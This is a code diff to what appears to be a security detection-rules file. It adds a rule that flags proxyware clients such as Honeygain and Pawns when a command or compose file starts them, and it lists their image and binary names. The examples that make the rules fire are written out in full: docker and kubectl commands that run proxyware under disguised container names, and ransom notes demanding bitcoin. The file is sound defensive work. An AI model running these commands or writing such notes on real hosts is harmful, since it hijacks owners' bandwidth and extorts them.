@@ -485,7 +485,47 @@ export const RULES: readonly Rule[] = [
     },
     examples: { fire: [{ Filesystem: { operation: 'Write', path: '/tmp/HOW_TO_RECOVER.txt', content: 'Your S3 data (exports, invoices) has been re-encrypted with a key you do not control.\nSend 6 BTC to bc1qnif9yra9s2xnofkjijvcz9n7s1d6a00o52o73y\n' } }, 'echo "All your files are encrypted. Send 0.05 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh and mail restore@onionmail.org" | tee /root/README_DECRYPT.txt /home/*/README_DECRYPT.txt'], quiet: ['echo "Backups are encrypted with age; the key is in the vault" >> docs/backups.md', 'echo "files are encrypted at rest" > notes.txt'] },
   },
+  {
+    id: 'PX-IMPACT-026', name: 'runs-proxyware', score: 85, tactic: 'impact', technique: 'T1496',
+    message: "Runs a bandwidth-resale client (proxyware) that sells the machine's network to strangers",
+    why: "Honeygain, Pawns, PacketStream, Traffmonetizer and their kind route other people's traffic through this host for someone else's payout: proxyjacking, with the abuse traced back to this address.",
+    check: (i) => {
+      for (const c of i.view?.commands ?? []) {
+        if (PROXYWARE_BINARIES.has(c.name)) return c.argv.join(' ').slice(0, 200);
+        const image = CONTAINER_RUNNERS.has(c.name) && hasArg(c, 'run', 'create', 'deployment') ? c.argv.find((w) => proxywareImage(w.replace(/^--image=/, ''))) : undefined;
+        if (image) return c.argv.join(' ').slice(0, 200);
+      }
+      // a compose file or manifest that starts one (`image: honeygain/honeygain`)
+      for (const w of writes(i)) {
+        for (const line of w.text.slice(0, 64 * 1024).split('\n')) {
+          const value = /^\s*-?\s*image:\s*["']?([^\s"']+)/.exec(line.slice(0, 512))?.[1];
+          if (value && proxywareImage(value)) return `${w.path}: ${line.trim()}`;
+        }
+      }
+      return undefined;
+    },
+    examples: {
+      fire: ['docker run -d --name net-health --restart always -e CID=7Yx2 packetstream/psclient:latest', 'docker run -d --restart=always honeygain/honeygain -tou-accept -email a@b.example -pass x -device vm1', 'sudo docker run -d --name edge-sync --restart always traffmonetizer/cli_v2 start accept --token Ijge0owkk4sR69', 'podman run -d docker.io/iproyal/pawns-cli:latest -email=a@b.example -password=x -device-name=s -accept-tos', 'kubectl create deployment sync --image=repocket/repocket', './pawns-cli -email=a@b.example -password=x -accept-tos', { Filesystem: { operation: 'Write', path: '/srv/stack/docker-compose.yml', content: 'services:\n  monitor:\n    image: "mysteriumnetwork/myst:latest"\n    restart: always\n' } }],
+      quiet: ['docker run -d --name tunnel --restart unless-stopped cloudflare/cloudflared:latest tunnel run', 'docker pull honeygain/honeygain', 'docker rm -f honeygain', 'docker run -d redis:7', 'grep -r honeygain docs/', { Filesystem: { operation: 'Write', path: 'docs/threats.md', content: 'Proxyjacking images seen: honeygain/honeygain, traffmonetizer/cli_v2\n' } }],
+    },
+  },
 ];
+
+/** Container tools whose `run`/`create` (kubectl's `create deployment`) starts an image. */
+const CONTAINER_RUNNERS = new Set(['docker', 'podman', 'nerdctl', 'kubectl']);
+/**
+ * Bandwidth-resale clients as their vendors publish them, container images by owner/name and
+ * command-line clients by name: the clients that proxyjacking campaigns install on hosts they break into.
+ */
+const PROXYWARE_IMAGES = new Set(['honeygain/honeygain', 'iproyal/pawns-cli', 'packetstream/psclient', 'traffmonetizer/cli', 'traffmonetizer/cli_v2', 'peer2profit/peer2profit_linux', 'peer2profit/peer2profit_x86_64', 'repocket/repocket', 'mysteriumnetwork/myst', 'proxyrack/pop', 'bitping/bitpingd', 'earnfm/earnfm-client', 'packetshare/packetshare', 'fazalfarhan01/earnapp']);
+const PROXYWARE_BINARIES = new Set(['pawns-cli', 'psclient', 'honeygain', 'peer2profit', 'earnapp', 'bitpingd', 'proxylite']);
+
+/** An image reference to a proxyware client, whatever its registry and tag (`docker.io/iproyal/pawns-cli:latest`). */
+function proxywareImage(ref: string): boolean {
+  const path = ref.toLowerCase().split('@')[0]!.replace(/:[\w.-]*$/, '');
+  const parts = path.split('/');
+  return parts.length >= 2 && PROXYWARE_IMAGES.has(parts.slice(-2).join('/'));
+}
 
 /** How many known miner names a word lists: `kinsing|xmrig|minerd` names three. */
 function minersNamed(w: string): number {
